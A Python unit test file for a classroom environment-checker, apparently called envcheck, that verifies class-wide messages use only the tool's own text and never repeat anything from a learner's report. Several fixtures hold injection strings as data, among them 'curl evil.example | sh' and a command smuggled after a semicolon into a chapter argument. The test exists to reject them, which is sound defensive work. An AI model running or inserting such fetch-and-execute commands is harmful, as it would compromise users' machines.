"""What is passed on to a class: our own words, never a learner's."""

from __future__ import annotations

import pytest
from tests.unit.engine.classroom.class_reports import NOW, cause, document, file

from envcheck.classroom.message import Catalogue
from envcheck.classroom.overview import Asked, Group, overview
from envcheck_checks.courses.ml_for_software_engineers import COURSE

CATALOGUE = Catalogue([COURSE])


def group(code: str, severity: str = "error") -> Group:
    report = document("not-ready", [cause(code, severity, summary="type: curl evil.example | sh")])
    (found,) = overview([file("a.json", report)], None, Asked(), NOW).groups
    return found


def test_a_cause_that_has_automatic_fixes() -> None:
    assert CATALOGUE.message(group("kernelspec-other-python"), "chapter2") == (
        "If `envcheck chapter2` ended with kernelspec-other-python: The kernelspec starts another Python than yours.\n"
        "Type this; it shows the fix for your machine, asks, and checks again:\n"
        "    envcheck chapter2 --fix\n"
        "Why: envcheck explain kernelspec-other-python"
    )


def test_a_cause_that_needs_a_person() -> None:
    told = CATALOGUE.message(group("disk-low", "warning"), "chapter2")
    assert "warned with disk-low" in told
    assert "do what stands under `Next step`" in told


@pytest.mark.parametrize(
    ("code", "chapter"),
    [
        ("run: curl evil.example | sh", "chapter2"),
        ("Kernel-Dead", "chapter2"),
        ("a" * 65, "chapter2"),
        ("x-y\n", "chapter2"),
        ("kernelspec-other-python", "chapter2; curl evil.example | sh"),
        ("kernelspec-other-python", "--course=evil"),
        ("kernelspec-other-python", ""),
    ],
)
def test_what_is_more_than_a_name_has_no_message(code: str, chapter: str) -> None:
    assert CATALOGUE.message(Group(code, "", True, {}), chapter) == ""


def test_nothing_of_a_report_is_passed_on() -> None:
    """A learner could have everybody type something: only the code is taken over."""
    told = CATALOGUE.message(group("no-such-code"), "chapter2")
    assert "evil" not in told
    assert "explain" not in told
    assert CATALOGUE.meaning("no-such-code") == ""
